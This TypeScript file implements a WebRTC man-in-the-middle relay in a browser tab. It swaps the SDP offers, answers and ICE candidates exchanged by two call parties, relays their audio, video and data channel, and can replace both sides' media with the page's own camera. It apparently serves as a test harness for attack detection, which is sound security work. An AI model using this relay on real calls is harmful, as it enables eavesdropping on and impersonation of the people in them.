/** What the man in the middle does inside a browser tab: it is serialised into the page, so it closes over nothing. */

/** Victims by their place in the call: the offerer's descriptions are offers. */
export type Side = 'offerer' | 'answerer'

interface Candidate {
  readonly candidate: string
  readonly sdp_mid: string
}

export interface RelayingPage {
  /** The offerer's offer came by; what the answerer gets instead. */
  takeOffer(sdp: string): Promise<string>
  /** The answerer's answer came by; what the offerer gets instead. */
  takeAnswer(sdp: string): Promise<string>
  /** Candidates on their way to `side`; what that side gets instead. */
  takeCandidates(side: Side, given: readonly Candidate[]): Promise<readonly Candidate[]>
}

declare global {
  interface Window {
    __mitm: RelayingPage
  }
}

/** `speaks`: the page's own picture and tone go to both victims, in place of what each would get of the other. */
export async function installRelayingPage(iceServer: RTCIceServer, speaks: boolean): Promise<void> {
  const audio = new AudioContext()
  const make = (side: Side) => {
    const connection = new RTCPeerConnection({ iceServers: [iceServer], iceTransportPolicy: 'relay', bundlePolicy: 'max-bundle' })
    const candidates: Candidate[] = []
    const gathered = new Promise<void>((resolve) => {
      connection.onicecandidate = ({ candidate }) => {
        if (candidate?.candidate) candidates.push({ candidate: candidate.candidate, sdp_mid: candidate.sdpMid ?? '0' })
        else if (candidate === null) resolve()
      }
    })
    const box = document.createElement('div')
    box.setAttribute('aria-label', side)
    const video = document.createElement('video')
    video.autoplay = video.muted = true
    video.srcObject = new MediaStream()
    box.append(video)
    document.body.append(box)
    return { connection, candidates, gathered, stream: video.srcObject, channel: null as RTCDataChannel | null, isTold: false }
  }
  const ends = { offerer: make('offerer'), answerer: make('answerer') }
  const { offerer, answerer } = ends

  const give = async (to: RTCPeerConnection, place: number, track: MediaStreamTrack): Promise<void> => {
    await to.getTransceivers()[place]?.sender.replaceTrack(track)
  }
  const passOn = (from: typeof offerer, to: typeof offerer): void => {
    from.connection.ontrack = ({ track, transceiver }) => {
      const place = from.connection.getTransceivers().indexOf(transceiver)
      if (place > 1) return
      from.stream.addTrack(track)
      if (speaks) return
      if (track.kind === 'video') void give(to.connection, place, track)
      else {
        const ear = audio.createMediaStreamDestination()
        audio.createMediaStreamSource(new MediaStream([track])).connect(ear)
        const [heard] = ear.stream.getAudioTracks()
        if (heard) void give(to.connection, place, heard)
      }
    }
  }
  const join = (channel: RTCDataChannel, other: () => RTCDataChannel | null): RTCDataChannel => {
    channel.binaryType = 'arraybuffer'
    channel.onmessage = ({ data }: MessageEvent<ArrayBuffer>) => {
      const to = other()
      if (to?.readyState === 'open') to.send(data)
    }
    return channel
  }

  passOn(offerer, answerer)
  passOn(answerer, offerer)
  for (const kind of ['audio', 'video', 'video', 'audio']) answerer.connection.addTransceiver(kind, { direction: 'sendrecv' })
  answerer.channel = join(answerer.connection.createDataChannel('incamera'), () => offerer.channel)
  offerer.connection.ondatachannel = ({ channel }) => {
    offerer.channel = join(channel, () => answerer.channel)
  }
  await answerer.connection.setLocalDescription(await answerer.connection.createOffer())
  await answerer.gathered
  const own = speaks ? await navigator.mediaDevices.getUserMedia({ audio: true, video: true }) : null
  const speak = async (to: RTCPeerConnection): Promise<void> => {
    for (const track of own?.getTracks() ?? []) await give(to, track.kind === 'audio' ? 0 : 1, track)
  }
  await speak(answerer.connection)
  await audio.resume()

  window.__mitm = {
    takeOffer: async (sdp) => {
      await offerer.connection.setRemoteDescription({ type: 'offer', sdp })
      for (const transceiver of offerer.connection.getTransceivers()) transceiver.direction = 'sendrecv'
      await speak(offerer.connection)
      await offerer.connection.setLocalDescription(await offerer.connection.createAnswer())
      return answerer.connection.localDescription?.sdp ?? ''
    },
    takeAnswer: async (sdp) => {
      await answerer.connection.setRemoteDescription({ type: 'answer', sdp })
      await offerer.gathered
      return offerer.connection.localDescription?.sdp ?? ''
    },
    takeCandidates: async (side, given) => {
      const from = side === 'offerer' ? answerer : offerer
      for (const { candidate, sdp_mid: sdpMid } of given) await from.connection.addIceCandidate({ candidate, sdpMid }).catch(() => undefined)
      const to = ends[side]
      await to.gathered
      if (to.isTold) return []
      to.isTold = true
      return to.candidates
    },
  }
}
